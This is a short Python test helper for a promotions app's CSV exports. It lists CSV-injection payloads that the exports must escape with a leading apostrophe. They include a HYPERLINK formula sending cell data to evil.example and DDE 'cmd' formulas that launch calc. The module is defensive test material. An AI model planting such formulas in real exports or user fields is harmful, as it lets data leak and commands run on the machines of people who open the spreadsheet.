"""Text a spreadsheet would run as a formula, for the tests of every CSV the app writes
(`promotions_site.csvexport`): each export must write it with a leading apostrophe."""

from __future__ import annotations

import csv
import io

# The OWASP CSV-injection starts: =, +, -, @, tab and carriage return, each with a payload.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def as_text(formula: str) -> str:
    """How an export writes `formula`: as text, behind an apostrophe."""
    return "'" + formula


def csv_table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# The free text of a redemption record (from tills and marketers) that the redemption exports write.
REDEMPTION_TEXT_COLUMNS = (
    "transactionIdentifier", "transactionNumber", "promotionName", "promotionMessageLabel", "sku",
)  # fmt: skip
